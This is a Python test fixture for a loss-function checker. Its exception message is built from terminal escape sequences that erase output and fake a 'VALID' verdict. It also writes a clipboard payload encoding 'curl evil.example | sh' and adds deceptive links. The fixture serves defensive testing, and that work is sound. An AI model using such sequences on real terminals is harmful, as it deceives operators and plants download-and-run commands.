"""Threat: loss-made text that drives the operator's terminal (issue 18, item 8).

The exception text erases the lines above it and the current line (CSI cursor up / erase line),
prints a fake verdict, writes the clipboard (OSC 52), opens a hyperlink (OSC 8), flips text
direction (a bidi override) and uses the 8-bit CSI form. Every printed report must show it inert.
"""

ESC = "\x1b"
# one line (no newline, so a traceback's last line carries all of it); ESC [ 1 E moves to the next line
MESSAGE = (f"{ESC}[1A{ESC}[2K{ESC}[1A{ESC}[2K\r/tmp/loss.py: VALID{ESC}[1E"
           f"{ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA=={ESC}\\"
           f"{ESC}]8;;https://evil.example{ESC}\\click{ESC}]8;;{ESC}\\"
           "\u202eFILAVNI\u202c \x9b2J\x07 [x](https://evil.example) ![p](https://evil.example/p.png) <b>bold</b>")


def loss(policy_chosen_logps, policy_rejected_logps):
    raise RuntimeError(MESSAGE)
